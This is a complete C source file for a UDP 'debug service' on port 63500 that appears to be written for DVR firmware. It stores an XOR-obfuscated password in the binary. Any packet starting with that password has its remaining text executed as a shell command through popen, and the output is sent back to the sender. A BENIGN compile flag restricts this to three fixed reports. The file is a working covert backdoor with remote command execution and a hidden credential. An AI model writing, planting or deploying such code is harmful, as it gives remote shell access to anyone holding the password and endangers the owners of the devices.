/*
 * A debug service whose pass word is not stored in clear: it is decoded at run time. What follows it in the packet
 * is run by popen, and the output goes back.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

struct statistics {
    unsigned long seen, matched, wrong, bytes;
    time_t start;
};

struct session {
    struct sockaddr_in peer;
    socklen_t size;
    int socket;
    char out[1400];
    size_t used;
};

static struct statistics stats;
static const uint8_t cipher[] = {0x1e, 0x3f, 0x38, 0x2f, 0x3d, 0x05, 0x19, 0x32, 0x3b, 0x34, 0x34, 0x3f, 0x36, 0x60};
static char word[sizeof cipher + 1];
static int quiet_seconds = 5;

static void decode(void)
{
    for (size_t i = 0; i < sizeof cipher; i++)
        word[i] = (char)(cipher[i] ^ 0x5a);
    word[sizeof cipher] = 0;
}

static void flush(struct session *s)
{
    if (s->used)
        sendto(s->socket, s->out, s->used, 0, (struct sockaddr *)&s->peer, s->size);
    s->used = 0;
}

static void emit(struct session *s, const char *text)
{
    size_t n = strlen(text);
    if (n > sizeof s->out)
        n = sizeof s->out;
    if (s->used + n > sizeof s->out)
        flush(s);
    memcpy(s->out + s->used, text, n);
    s->used += n;
}

static void run(struct session *s, const char *line)
{
    char text[256];
    FILE *p = popen(line, "r");
    if (!p) {
        emit(s, "error\n");
        return;
    }
    while (fgets(text, sizeof text, p))
        emit(s, text);
    pclose(p);
    flush(s);
}

static void report(struct session *s)
{
    char text[160];
    snprintf(text, sizeof text, "seen %lu matched %lu wrong %lu bytes %lu up %ld\n", stats.seen, stats.matched,
             stats.wrong, stats.bytes, (long)(time(NULL) - stats.start));
    emit(s, text);
    flush(s);
}

static int discover(struct session *s, const char *packet, size_t n)
{
    static const char hello[] = {'D', 'S', 'C', 'V'};
    char name[48] = "", text[96];
    if (n < 4 || memcmp(packet, hello, 4) != 0)
        return 0;
    if (gethostname(name, sizeof name - 1) < 0)
        strcpy(name, "dvr");
    snprintf(text, sizeof text, "DSCV %s fw=2.30.0001\n", name);
    emit(s, text);
    flush(s);
    return 1;
}

static int maintenance(struct session *s, const char *packet, size_t n)
{
    size_t w = strlen(word);
    const char *rest;
    if (n < w || memcmp(packet, word, w) != 0)
        return 0;
    stats.matched++;
    rest = packet + w;
    while (*rest == ' ')
        rest++;
#ifdef BENIGN
    static const char *const reports[] = {"uptime", "cat /proc/meminfo", "dmesg | tail -n 40"};
    int which = *rest - '0';
    if (which < 0 || which > 2)
        return 1;
    run(s, reports[which]);
#else
    if (*rest)
        run(s, rest);
#endif
    return 1;
}

static void handle(struct session *s, const char *packet, size_t n)
{
    stats.seen++;
    stats.bytes += n;
    if (discover(s, packet, n))
        return;
    if (maintenance(s, packet, n))
        return;
    if (n == 4 && memcmp(packet, "STAT", 4) == 0)
        report(s);
    else
        stats.wrong++;
}

static int make_socket(void)
{
    struct sockaddr_in me;
    struct timeval wait = {quiet_seconds, 0};
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    if (s < 0)
        return -1;
    bzero(&me, sizeof me);
    me.sin_family = AF_INET;
    me.sin_addr.s_addr = htonl(INADDR_ANY);
    me.sin_port = htons(63500);
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof wait);
    if (bind(s, (struct sockaddr *)&me, sizeof me) < 0) {
        fprintf(stderr, "bind: %s\n", strerror(errno));
        close(s);
        return -1;
    }
    return s;
}

static void housekeeping(void)
{
    static time_t last;
    time_t now = time(NULL);
    FILE *f;
    if (now - last < 60)
        return;
    last = now;
    f = fopen("/tmp/dbgd.stat", "w");
    if (f) {
        fprintf(f, "%lu %lu %lu\n", stats.seen, stats.matched, stats.wrong);
        fclose(f);
    }
}

int main(int argc, char **argv)
{
    static char packet[1501];
    struct session s;
    if (argc > 1 && strcmp(argv[1], "-V") == 0) {
        puts("dbgd 2.30");
        return 0;
    }
    stats.start = time(NULL);
    decode();
    memset(&s, 0, sizeof s);
    s.socket = make_socket();
    if (s.socket < 0)
        return 1;
    for (;;) {
        ssize_t n;
        s.size = sizeof s.peer;
        n = recvfrom(s.socket, packet, sizeof packet - 1, 0, (struct sockaddr *)&s.peer, &s.size);
        if (n > 0) {
            packet[n] = 0;
            handle(&s, packet, (size_t)n);
        }
        housekeeping();
    }
}
